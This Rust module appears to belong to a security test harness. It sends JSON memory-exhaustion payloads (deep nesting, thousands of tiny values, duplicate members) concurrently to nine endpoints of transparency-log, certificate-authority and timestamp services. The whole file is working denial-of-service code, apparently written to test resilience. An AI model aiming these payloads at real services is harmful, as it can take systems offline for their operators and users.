//! JSON that would take many times its length in memory: deep, of thousands of tiny values, and with members that stand
//! twice, to every path that reads any.

use tokio::task::JoinSet;

use crate::world::Target;

pub(crate) async fn attack(target: &'static Target) {
    let mut posts = JoinSet::new();
    for (service, path, length) in PATHS {
        for stranger in [72, 73] {
            posts.spawn(async move {
                for body in bodies(length) {
                    // Searches pass over what they do not know, so that not all of it is refused.
                    target.post(service, path, &body, stranger).await;
                }
            });
        }
    }
    while let Some(ended) = posts.join_next().await {
        ended.unwrap();
    }
}

fn bodies(length: usize) -> Vec<String> {
    let many = |element: &str| {
        let count = length / (element.len() + 1);
        vec![element; count].join(",")
    };
    vec![
        "[".repeat(length),
        r#"{"a":"#.repeat(length / 5),
        format!("[{}]", many(r#"{"":0}"#)),
        format!(r#"{{"spec":[{}]}}"#, many("{}")),
        format!(r#"{{"entries":[{}]}}"#, many(r#"{"":0}"#)),
        format!(r#"{{"chain":[{}]}}"#, many(r#""""#)),
        format!(r#"{{"dsseRequestV002":{{"verifiers":[{}]}}}}"#, many("{}")),
        format!(r#"{{"hash":{{{}}}}}"#, many(r#""":0"#)),
    ]
}

/// Every path that reads JSON, and the bytes that it takes less what is around the tiny values.
const PATHS: [(&str, &str, usize); 9] = [
    ("tlog", "/api/v1/log/entries", (8 << 20) - 100),
    ("tlog", "/api/v1/log/entries/retrieve", (8 << 20) - 100),
    ("tlog", "/api/v1/index/retrieve", (64 << 10) - 100),
    ("tlog", "/api/v2/log/entries", (4 << 20) - 100),
    ("ctlog", "/ct/v1/add-chain", (128 << 10) - 100),
    ("ctlog", "/ct/v1/add-pre-chain", (128 << 10) - 100),
    ("ca", "/api/v1/signingCert", (4 << 20) - 100),
    ("ca", "/api/v2/signingCert", (4 << 20) - 100),
    ("tsa", "/api/v1/timestamp", (16 << 10) - 100),
];
